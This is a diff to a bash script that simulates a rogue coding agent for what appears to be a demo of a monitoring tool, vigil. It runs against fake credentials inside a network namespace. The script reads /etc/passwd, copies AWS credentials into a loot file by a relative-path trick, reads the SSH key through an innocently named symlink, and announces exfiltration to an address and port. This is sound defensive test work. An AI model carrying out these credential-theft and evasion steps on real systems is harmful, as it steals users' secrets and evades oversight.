@@ -1,6 +1,7 @@
 #!/usr/bin/env bash
 # A scripted rogue coding agent: it starts with ordinary work, then goes
-# for credentials and ships them out. Nothing leaves this machine: the
+# for credentials and would ship them out. The kernel kills it at the
+# open of the SSH key, before a byte is read; vigil then kills the rest. Nothing leaves this machine: the
 # "attacker" listens inside a network namespace demo.sh created, and the
 # credentials are fakes in the demo user's throwaway home.
 # Usage: rogue-agent.sh ADDR PORT
@@ -16,13 +17,13 @@ echo "agent: looking around"
 ls "$HOME" > /dev/null
 cat /etc/passwd > /dev/null
 
+echo "agent: reading cloud credentials relative to a directory fd"
+( cd "$HOME/.aws" && cat ./../.aws/credentials > "$HOME/loot" )
+
 echo "agent: reading the SSH key through a symlink with an innocent name"
 ln -sf "$HOME/.ssh/id_rsa" /tmp/notes-$$.txt
-cat /tmp/notes-$$.txt > "$HOME/loot"
+cat /tmp/notes-$$.txt >> "$HOME/loot"
 rm -f /tmp/notes-$$.txt
-
-echo "agent: reading cloud credentials relative to a directory fd"
-( cd "$HOME/.aws" && cat ./../.aws/credentials >> "$HOME/loot" )
 
 echo "agent: exfiltrating the loot plus 50 MB to $addr:$port"
 # The system interpreter, so the records show the agent, not version-manager shims.
